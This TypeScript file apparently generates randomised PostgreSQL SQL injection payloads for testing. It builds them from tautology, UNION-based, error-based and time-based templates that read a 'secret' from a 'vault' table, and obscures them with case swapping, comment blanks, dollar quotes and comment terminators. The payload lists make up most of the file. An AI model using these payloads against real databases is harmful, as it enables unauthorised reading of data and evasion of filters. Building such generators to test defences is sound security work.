// Attacks on a statement of PostgreSQL, rewritten so that they mean the same: its own blanks, nested
// comments, dollar quotes, casts, operators and functions.
import type { Random } from './random.ts';
import type { SqlContext } from './sql-mutants.ts';

export const POSTGRES_CONTEXTS: readonly SqlContext[] = [
  { name: 'single', statement: "SELECT id::text, name FROM items WHERE name = '$'" },
  {
    name: 'single',
    statement: "SELECT id::text, name FROM items WHERE (name = '$' AND price > 0)",
  },
  { name: 'like', statement: "SELECT id::text, name FROM items WHERE name LIKE '%$%'" },
  { name: 'number', statement: 'SELECT id::text, name FROM items WHERE id = $' },
  { name: 'number', statement: 'SELECT id::text, name FROM items WHERE (id = $)' },
  { name: 'order', statement: 'SELECT id::text, name FROM items WHERE id = 1 ORDER BY $' },
];

/** `_` is a blank, `TRUE` a condition, `TEXT` the secret read in some way, `END` the rest cut off. */
const TAILS: readonly string[] = [
  '_OR_TRUE_END',
  '_OR_TRUE_AND_TRUE_END',
  '_OR_NOT_(TRUE_AND_1=2)_END',
  '_UNION_SELECT_NULL,TEXT_END',
  '_UNION_ALL_SELECT_1::text,TEXT_END',
  '_UNION_ALL_SELECT_id::text,secret_FROM_vault_END',
  '_UNION_(SELECT_NULL,secret_FROM_vault)_END',
  '_UNION_VALUES_(NULL,TEXT)_END',
  '_OR_EXISTS(SELECT_1_FROM_vault)_END',
  '_OR_(SELECT_count(*)_FROM_vault)>0_END',
  '_OR_CASE_WHEN_TRUE_THEN_true_ELSE_false_END2_END',
  '_OR_(SELECT_true_FROM_pg_sleep(0))_END',
  '_OR_length(TEXT)>0_END',
  '_OR_id_IN_(SELECT_id_FROM_items)_END',
  '_OR_name_LIKE_$$%$$_END',
  '_OR_name_~_$$.$$_END',
  '_OR_name_!~~_$$x$$_END',
  '_OR_name_IS_NOT_NULL_END',
  '_OR_row(1,2)<row(2,1)_END',
  '_OR_EXISTS(TABLE_vault)_END',
  '_OR_TEXT>$$A$$_END',
  '_OR_TRUE_ORDER_BY_1_LIMIT_9_OFFSET_0_END',
  '_UNION_(TABLE_t_UNION_SELECT_NULL,TEXT)_END',
  '_UNION_SELECT_*_FROM_(VALUES($$1$$,TEXT))_v_END',
  '_AND_1=CAST(TEXT_AS_int)_END',
  '_AND_1=TEXT::int_END',
  '_OR_1/(CASE_WHEN_TRUE_THEN_1_ELSE_0_END2)=1_END',
  '_OR_ascii(substr(TEXT,1,1))>0_END',
  '_UNION_SELECT_NULL,query_to_xml($q$select_secret_from_vault$q$,true,true,$q$$q$)::text_END',
];
const TRUTHS = [
  '1=1',
  '2>1',
  '3<>4',
  '1!=2',
  '(1)=(1)',
  '-1=-1',
  '5-4=1',
  '2*3=6',
  '7%4=3',
  '1.0=1',
  "'a'='a'",
  "'a'<'b'",
  "'x'_LIKE_'x'",
  "'x'_ILIKE_'X'",
  "'a'_~_'a'",
  "'a'_SIMILAR_TO_'a'",
  'true',
  'NOT_false',
  'NULL_IS_NULL',
  '1_IN_(1,2)',
  '1_BETWEEN_0_AND_2',
  '1=ANY(ARRAY[1,2])',
  "length('ab')=2",
  "ascii('A')=65",
  'chr(65)=$$A$$',
  "'1'::int=1",
  "CAST('1'_AS_int)=1",
  "'a'||'b'='ab'",
  'abs(-1)=1',
  'coalesce(NULL,true)',
  'EXISTS(SELECT_1)',
  "E'\\\\x41'='A'",
  '(SELECT_1)=1',
  "position('b'_in_'ab')=2",
  "'b'_IN_('a','b')",
  "lower('A')=$x$a$x$",
  "substring('abc'_from_1_for_1)='a'",
  '1_IS_DISTINCT_FROM_2',
  "md5('a')_IS_NOT_NULL",
  '1_NOTNULL',
  '(1,2)=(1,2)',
  'ROW(1)=ROW(1)',
  '1_=_SOME(ARRAY[1])',
  'ARRAY[1]<@ARRAY[1,2]',
  "'{1}'::int[]_@>_'{1}'",
  "'a'^@'a'",
  "B'1'=B'1'",
  "X'1F'=X'1F'",
  "U&'\\0041'='A'",
  'interval_$$1_day$$>interval_$$1_hour$$',
  'true_IS_NOT_false',
  'now()>$$2000-01-01$$',
  "strpos('ab','b')=2",
  "translate('a','a','b')='b'",
  'greatest(1,2)=2',
  "format('%s',1)='1'",
  'NOT(1=2)',
  '2^2=4',
  '|/4=2',
  '@-1=1',
  "to_char(1,'9')_LIKE_'%1'",
] as const;
const TEXTS = [
  '(SELECT_secret_FROM_vault)',
  '(SELECT_secret_FROM_vault_LIMIT_1)',
  '(SELECT_string_agg(secret,$$,$$)_FROM_vault)',
  '(SELECT_max(secret)_FROM_public.vault)',
  '(SELECT_"secret"_FROM_"vault")',
  '(TABLE_vault_LIMIT_1)::text',
  '(SELECT_v::text_FROM_vault_v)',
  '(SELECT_concat(secret)_FROM_vault)',
  '(SELECT_encode(secret::bytea,$$escape$$)_FROM_vault)',
] as const;
const BLANKS = [' ', '  ', '\t', '\n', '/**/', '/*x*/', '/*/**/*/', '\f', '\r\n', '--\n', '--x\n'];
const ENDINGS = ['--', '-- ', '-- -', '--x', ';--', '; -- x', '--\t'] as const;

/** One attack for the context; not every one works, which is for the database to say. */
export function makePostgresMutant(random: Random, { name }: SqlContext): string {
  if (name === 'order') {
    const text = random.pick(TEXTS);
    const order = `${random.pick(['id', '1', 'name,2', 'id_desc'])},(SELECT_CASE_WHEN_TRUE_THEN_1_ELSE_CAST(${text}_AS_int)_END2)`;
    return spell(random, fill(random, order.replace('TRUE', '1=2')));
  }
  const isNumber = name === 'number';
  const start = isNumber ? random.pick(['1', '-1', '0', '1.5', '(1)', '99']) : "x'";
  const close = random.chance(0.4) ? ')' : '';
  return spell(random, fill(random, `${start}${close}${random.pick(TAILS)}`));
}

function fill(random: Random, attack: string): string {
  return attack
    .replaceAll('END2', '\x01')
    .replace(/_END$/, () => `_${random.pick(ENDINGS)}`)
    .replaceAll('\x01', 'END')
    .replace(/\bTRUE\b|(?<=_)TRUE(?=_|$)|(?<=\()TRUE/g, () => random.pick(TRUTHS))
    .replaceAll('TEXT', () => random.pick(TEXTS));
}

function spell(random: Random, attack: string): string {
  const folded = attack.replace(/(?<!\$\w{0,8})[A-Za-z]{2,}(?!\w{0,8}\$)/g, (word) =>
    random.chance(0.4) ? swapCase(random, word) : word,
  );
  // Names with a stroke of their own keep it.
  const kept = folded.replace(/\b(?:string_agg|pg_sleep|query_to_xml)\b/gi, (word) =>
    word.replaceAll('_', '\x02'),
  );
  return kept
    .replaceAll('_', () => (random.chance(0.5) ? ' ' : random.pick(BLANKS)))
    .replaceAll('\x02', '_');
}

function swapCase(random: Random, word: string): string {
  return Array.from(word)
    .map((letter) => (random.chance(0.5) ? letter.toUpperCase() : letter.toLowerCase()))
    .join('');
}
